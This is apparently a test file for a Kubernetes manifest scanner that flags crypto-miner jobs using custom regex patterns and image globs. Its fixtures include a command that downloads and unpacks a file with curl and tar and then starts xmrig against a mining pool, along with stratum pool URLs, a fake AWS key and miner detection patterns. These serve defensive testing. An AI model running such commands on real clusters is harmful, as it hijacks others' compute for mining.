/**
 * Custom indicators from `.jobsentinel.yaml` (`custom.patterns`, `custom.images`) in manifests: the
 * evidence they read, the findings they make, the tuning they go through, and patterns that are invalid
 * or written to make a backtracking engine hang.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import {
  analyseManifest,
  customIndicators,
  linearPatternEngine,
  parseConfig,
  ScanMemo,
  type CompiledPattern,
  type Finding,
  type JobSentinelConfig,
  type PatternEngine,
} from '../src/index.js';
import { CRONJOB_POD_SPEC, cronJob, podWith } from './indicator-helpers.js';

function config(yaml: string): JobSentinelConfig {
  const parsed = parseConfig(yaml, '.jobsentinel.yaml');
  assert.deepEqual(parsed.errors, []);
  return parsed.config;
}

const MINER = config(
  [
    'custom:',
    '  patterns:',
    '    - id: crypto-miner',
    '      pattern: "stratum\\\\+tcp://|xmrig"',
    '      severity: error',
    '      description: Crypto-miner pool or binary',
  ].join('\n'),
);

function findings(manifest: string, cfg: JobSentinelConfig, engine?: PatternEngine, memo?: ScanMemo): Finding[] {
  const result = analyseManifest(manifest, 'job.yaml', { config: cfg, patternEngine: engine, memo });
  assert.deepEqual(result.errors, []);
  return result.findings;
}

const only = (all: Finding[], id: string) => all.filter((finding) => finding.indicator === id);
const container = (rest: string) => `${CRONJOB_POD_SPEC}/containers/0/${rest}`;

describe('custom patterns: evidence', () => {
  it('reports a match in args with the custom id, severity, description and the exact range of the scalar', () => {
    const text = cronJob(podWith({ args: ['--donate-level=1', '-o', 'stratum+tcp://pool.example:3333'] }));
    const [finding, ...rest] = only(findings(text, MINER), 'crypto-miner');
    assert.deepEqual(rest, []);
    assert.equal(finding.severity, 'error');
    assert.equal(finding.path, container('args/2'));
    assert.equal(finding.evidence, 'stratum+tcp://pool.example:3333');
    assert.match(finding.message, /Container "main": "crypto-miner" \(Crypto-miner pool or binary\) matches its args: stratum\+tcp:/);
    const line = text.split('\n')[finding.range!.start.line - 1];
    assert.equal(line.slice(finding.range!.start.column - 1, finding.range!.end.column - 1), 'stratum+tcp://pool.example:3333');
  });

  it('matches images, commands, shell scripts, hooks and probes, one finding per scalar', () => {
    const pod = [
      'containers:',
      '- name: main',
      '  image: ghcr.io/evil/xmrig:6.21',
      '  command: ["sh", "-c", "curl -s http://x/y | tar xz && ./xmrig --url pool:3333"]',
      '  lifecycle:',
      '    postStart:',
      '      exec:',
      '        command: ["/bin/sh", "-c", "echo xmrig started"]',
      '  livenessProbe:',
      '    exec:',
      '      command: [pgrep, xmrig]',
      '- name: sidecar',
      '  image: nginx:1.27',
    ].join('\n');
    const paths = only(findings(cronJob(pod), MINER), 'crypto-miner').map((finding) => finding.path);
    assert.deepEqual(paths, [
      container('image'),
      container('command/2'),
      container('lifecycle/postStart/exec/command/2'),
      container('livenessProbe/exec/command/1'),
    ]);
  });

  it('judges command lines as the process runs them: patterns across arguments and $(VAR) expansions', () => {
    const across = config('custom:\n  patterns:\n    - {id: pool-flag, pattern: "xmrig\\\\s+-o\\\\s"}\n');
    const split = only(findings(cronJob(podWith({ command: ['xmrig', '-o', 'pool:3333'] })), across), 'pool-flag');
    assert.deepEqual(split.map((finding) => finding.path), [container('command/0')]);

    const hidden = cronJob(podWith({ env: [['POOL', 'stratum+tcp://p.example:1']], command: ['/opt/run', '-o', '$(POOL)'] }));
    const viaVariable = only(findings(hidden, MINER), 'crypto-miner');
    assert.equal(viaVariable.length, 1, 'the expanded command line runs the pool URL');
    assert.match(viaVariable[0].evidence, /stratum\+tcp:\/\/p\.example:1/);
  });

  it('reads env values only where the entry opts in with env: true', () => {
    const text = cronJob(podWith({ env: [['AWS_KEY', 'AKIAIOSFODNN7EXAMPLE'], ['MODE', 'batch']] }));
    const pattern = (env: string) => config(`custom:\n  patterns:\n    - {id: aws-key, pattern: "AKIA[0-9A-Z]{16}"${env}}\n`);
    assert.deepEqual(only(findings(text, pattern('')), 'aws-key'), []);
    assert.deepEqual(only(findings(text, pattern(', env: false')), 'aws-key'), []);
    const [finding] = only(findings(text, pattern(', env: true')), 'aws-key');
    assert.equal(finding.path, container('env/0/value'));
    assert.equal(finding.severity, 'warning', 'the default severity of a custom pattern');
    assert.match(finding.message, /its env AWS_KEY/);
  });

  it('finds nothing in a benign job', () => {
    const text = cronJob(podWith({ image: 'registry.example/acme/report:1.2', command: ['/bin/report', '--since', '24h'] }));
    assert.deepEqual(only(findings(text, MINER), 'crypto-miner'), []);
  });

  it('applies custom.images globs as attacker-tooling, end to end', () => {
    const cfg = config('custom:\n  images: ["*xmrig*", "registry.evil.example/*"]\n');
    const text = cronJob(podWith({ image: 'docker.io/miners/xmrig-proxy:6.21' }));
    const [finding] = only(findings(text, cfg), 'attacker-tooling');
    assert.equal(finding.path, container('image'));
    assert.equal(finding.severity, 'warning');
    assert.match(finding.message, /listed in custom\.images \(\*xmrig\*\)/);
    assert.deepEqual(only(findings(cronJob(podWith({ image: 'registry.example/acme/report:1.2' })), cfg), 'attacker-tooling'), []);
  });
});

describe('custom patterns: tuning', () => {
  const miner = cronJob(podWith({ args: ['-o', 'stratum+tcp://pool.example:3333'] }));
  const withTuning = (tuning: string) =>
    config(`${tuning}\ncustom:\n  patterns:\n    - {id: crypto-miner, pattern: "stratum\\\\+tcp://", severity: error}\n`);

  it('severity: overrides the level of a custom id, and off drops it', () => {
    assert.equal(only(findings(miner, withTuning('severity:\n  crypto-miner: information')), 'crypto-miner')[0].severity, 'information');
    assert.deepEqual(only(findings(miner, withTuning('severity:\n  crypto-miner: off')), 'crypto-miner'), []);
  });

  it('profile: seed keeps custom patterns (they are the user\'s own, not our extensions)', () => {
    const seed = findings(miner, withTuning('profile: seed'));
    assert.equal(only(seed, 'crypto-miner').length, 1);
    const hostPid = findings(cronJob(`hostPID: true\n${podWith({ args: ['stratum+tcp://x'] })}`), withTuning('profile: seed'));
    assert.deepEqual(only(hostPid, 'host-pid'), [], 'while extended indicators are off');
  });

  it('ignore entries name custom ids, with their conditions', () => {
    const byImage = withTuning('ignore:\n  - indicators: [crypto-miner]\n    images: ["registry.example/acme/*"]');
    assert.deepEqual(only(findings(miner, byImage), 'crypto-miner'), []);
    const otherNamespace = withTuning('ignore:\n  - indicators: [crypto-miner]\n    namespaces: [lab]');
    assert.equal(only(findings(miner, otherNamespace), 'crypto-miner').length, 1);
  });

  it('the ignore annotation and the ignore comment name custom ids', () => {
    const cfg = withTuning('');
    const annotated = miner.replace('  namespace: default\n', '  namespace: default\n  annotations:\n    jobsentinel.io/ignore: crypto-miner\n');
    assert.deepEqual(only(findings(annotated, cfg), 'crypto-miner'), []);
    const commented = miner.replace(/^(\s*)args:/m, '$1# jobsentinel-ignore: crypto-miner\n$1args:');
    assert.notEqual(commented, miner);
    assert.deepEqual(only(findings(commented, cfg), 'crypto-miner'), []);
    const unknown = analyseManifest(miner.replace(/^(\s*)args:/m, '$1# jobsentinel-ignore: crypto-minr\n$1args:'), 'job.yaml', { config: cfg });
    assert.match(unknown.errors[0].message, /unknown indicator "crypto-minr"/);
  });
});

describe('custom patterns: invalid syntax is a config error naming the pattern and the position', () => {
  const errorsOf = (pattern: string) =>
    parseConfig(`custom:\n  patterns:\n    - id: bad-one\n      pattern: ${pattern}\n    - {id: good-one, pattern: xmrig}\n`, '.jobsentinel.yaml');

  for (const [pattern, message, column] of [
    ["'(a+)\\1'", /pattern of "bad-one": .*backreference.*\(at position 4\)/i, 21],
    ["'foo(?=bar)'", /pattern of "bad-one": lookahead \(\?= is not supported \(at position 3\)/, 20],
    ["'(?<!x)y'", /pattern of "bad-one": .*lookbehind.*\(at position 0\)/i, 17],
    ["'[z-a]'", /pattern of "bad-one": .*\(at position 1\)/, 18],
  ] as const) {
    it(`rejects ${pattern}, pointing at the offending character`, () => {
      const { config: cfg, errors } = errorsOf(pattern);
      assert.equal(errors.length, 1, JSON.stringify(errors));
      assert.match(errors[0].message, message);
      assert.equal(errors[0].range.start.line, 4);
      assert.equal(errors[0].range.start.column, column);
      assert.deepEqual(cfg.custom.patterns.map((entry) => entry.id), ['good-one'], 'the valid pattern is kept');
    });
  }

  it('points at the whole scalar when escapes make the character position unknowable', () => {
    const { errors } = errorsOf('"\\\\d(?=x)"');
    assert.equal(errors.length, 1);
    assert.match(errors[0].message, /pattern of "bad-one": lookahead/);
    assert.deepEqual([errors[0].range.start, errors[0].range.end], [{ line: 4, column: 17 }, { line: 4, column: 25 }]);
  });

  it('rejects a pattern that matches the empty string (it would flag every job)', () => {
    for (const pattern of ["'x*'", "'(stratum)?'", "'^'", "'a|'"]) {
      const { config: cfg, errors } = errorsOf(pattern);
      assert.equal(errors.length, 1, pattern);
      assert.match(errors[0].message, /pattern of "bad-one" matches the empty string/);
      assert.deepEqual(cfg.custom.patterns.map((entry) => entry.id), ['good-one']);
    }
    assert.deepEqual(errorsOf("'x+'").errors, []);
  });

  it('lets editor settings name the custom ids of the config file (customIds), and nothing else', () => {
    const settings = '{"severity": {"crypto-miner": "hint", "crypto-minr": "hint"}, "ignore": [{"indicators": ["crypto-miner"], "namespaces": ["lab"]}]}';
    const { config: cfg, errors } = parseConfig(settings, 'settings', { customIds: ['crypto-miner'] });
    assert.deepEqual(cfg.severity, { 'crypto-miner': 'hint' });
    assert.equal(cfg.ignore.length, 1);
    assert.deepEqual(errors.map((error) => error.message), ['unknown indicator "crypto-minr" in severity (did you mean "crypto-miner"?)']);
    assert.equal(parseConfig(settings, 'settings').errors.length, 3, 'without customIds, the custom id is unknown');
  });

  it('uses the validator a host gives instead, when it gives one', () => {
    const { errors } = parseConfig('custom:\n  patterns:\n    - {id: p, pattern: abc}\n', 'c.yaml', { validatePattern: () => 'not today' });
    assert.equal(errors[0].message, 'pattern of "p": not today');
  });
});

describe('custom patterns: hostile patterns and engines', () => {
  const hostile = config(
    [
      'custom:',
      '  patterns:',
      '    - {id: nested-plus, pattern: "(a+)+$"}',
      '    - {id: nested-star, pattern: "(a|aa)*b"}',
      '    - {id: nested-x, pattern: "(x+x+)+y"}',
      '    - {id: tail, pattern: "a{50}!"}',
    ].join('\n'),
  );

  it('(a+)+$ and friends over a 100,000-character command finish with the right answers', () => {
    const long = 'a'.repeat(100_000);
    const noMatch = findings(cronJob(podWith({ command: ['sh', '-c', `${long}!`] })), hostile);
    assert.deepEqual(noMatch.filter((finding) => finding.indicator !== 'attacker-tooling').map((finding) => finding.indicator), ['tail']);

    const match = findings(cronJob(podWith({ command: ['sh', '-c', long] })), hostile);
    const hits = match.map((finding) => finding.indicator).filter((id) => id !== 'attacker-tooling');
    assert.deepEqual(hits, ['nested-plus']);
    assert.ok(match[0].evidence.length <= 200, 'the evidence is clipped');
  });

  it('compiles each config once per engine within a memo, and runs the engine it is given', () => {
    const memo = new ScanMemo();
    assert.equal(customIndicators(MINER, undefined, memo), customIndicators(MINER, undefined, memo));
    assert.equal(customIndicators(MINER, linearPatternEngine, memo), customIndicators(MINER, undefined, memo));
    // Without a memo nothing is kept: a library with no state of its own compiles afresh.
    assert.notEqual(customIndicators(MINER), customIndicators(MINER));
    assert.deepEqual(customIndicators(MINER).map((indicator) => indicator.id), customIndicators(MINER, undefined, memo).map((indicator) => indicator.id));
    const compiled: string[] = [];
    const tested: string[] = [];
    const spy: PatternEngine = {
      name: 'spy',
      compile(source): CompiledPattern {
        compiled.push(source);
        const inner = linearPatternEngine.compile(source);
        return { source, test: (text) => (tested.push(text), inner.test(text)) };
      },
    };
    const text = cronJob(podWith({ args: ['stratum+tcp://p:1'] }));
    findings(text, MINER, spy, memo);
    findings(text, MINER, spy, memo);
    assert.deepEqual(compiled, ['stratum\\+tcp://|xmrig']);
    findings(text, MINER, spy);
    assert.deepEqual(compiled, ['stratum\\+tcp://|xmrig', 'stratum\\+tcp://|xmrig'], 'an analysis without a memo keeps nothing');
    assert.ok(tested.includes('stratum+tcp://p:1'));
    assert.deepEqual(customIndicators(config('profile: seed\n')), []);
    // A host that merges editor settings into the file's config keeps its custom section, and the compilation.
    assert.equal(customIndicators({ ...MINER, severity: { 'crypto-miner': 'hint' } }, spy, memo), customIndicators(MINER, spy, memo));
  });
});
